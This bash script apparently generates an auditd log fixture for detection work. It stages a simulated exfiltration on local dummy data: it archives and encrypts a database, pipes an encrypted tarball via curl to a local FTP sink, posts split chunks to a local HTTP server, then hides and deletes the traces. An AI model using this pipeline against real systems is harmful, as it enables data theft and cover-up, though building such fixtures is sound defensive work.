#!/bin/bash
# Records attack.audit.log: a staged, encrypted exfiltration run under a real auditd (Debian 12, auditd 3.0.9,
# log_format=ENRICHED, name_format=USER name=web-01). Run as root with auditd already running; the rules
# only match processes with loginuid 1001 (this script's session), so nothing else on the machine is logged.
set -u
OUT=${1:-attack.audit.log}
AUID=1001
mkdir -p /srv/db && head -c 65536 /dev/urandom > /srv/db/customers.db
python3 -m http.server 8000 --bind 127.0.0.1 >/dev/null 2>&1 & HTTP=$!
python3 -c 'import socket;s=socket.socket();s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1);s.bind(("127.0.0.1",2121));s.listen()
while True:
  c,_=s.accept();c.send(b"220 ready\r\n");c.settimeout(2)
  try:
    while c.recv(65536): pass
  except Exception: pass
  c.close()' & FTP=$!
sleep 1
auditctl -D >/dev/null
auditctl -a always,exit -F arch=b64 -S execve -F auid=$AUID -k exec
auditctl -a always,exit -F arch=b64 -S open,openat,creat,truncate -F dir=/tmp -F perm=w -F auid=$AUID -k staging
auditctl -a always,exit -F arch=b64 -S rename,renameat,renameat2,unlink,unlinkat -F auid=$AUID -k filemod
auditctl -a always,exit -F arch=b64 -S connect -F auid=$AUID -k net
# The attacker's session: its own loginuid, so the rules above see only it.
bash -c "echo $AUID > /proc/self/loginuid; exec bash" <<'ATTACK'
cd /tmp
tar cf db.tar -C /srv db
openssl enc -aes-256-cbc -salt -in db.tar -out /tmp/db.enc -k S3cr3t-Exf1l
gpg --batch --yes --passphrase 'correct horse' -c db.tar
tar czf - /srv/db | openssl enc -aes-256-cbc -pbkdf2 -pass pass:Winter2026 | curl -s --max-time 3 -T - ftp://127.0.0.1:2121/upload/db.bin
split -b 16k /tmp/db.enc /tmp/chunk_
for f in /tmp/chunk_a?; do curl -s -o /dev/null --data-binary @$f http://127.0.0.1:8000/upload; done
mv /tmp/db.enc /tmp/.cache.bin
rm -f /tmp/chunk_a? /tmp/db.tar
ATTACK
sleep 1
auditctl -D >/dev/null
kill $HTTP $FTP
# Only this scenario's records: the events of loginuid 1001 (auid=1001 in SYSCALL records, per event serial).
serials=$(grep -a ' auid=1001 ' /tmp/aud/log/audit.log | grep -ao 'msg=audit([0-9.:]*)' | sort -u)
grep -aF -f <(printf '%s\n' $serials) /tmp/aud/log/audit.log > "$OUT"
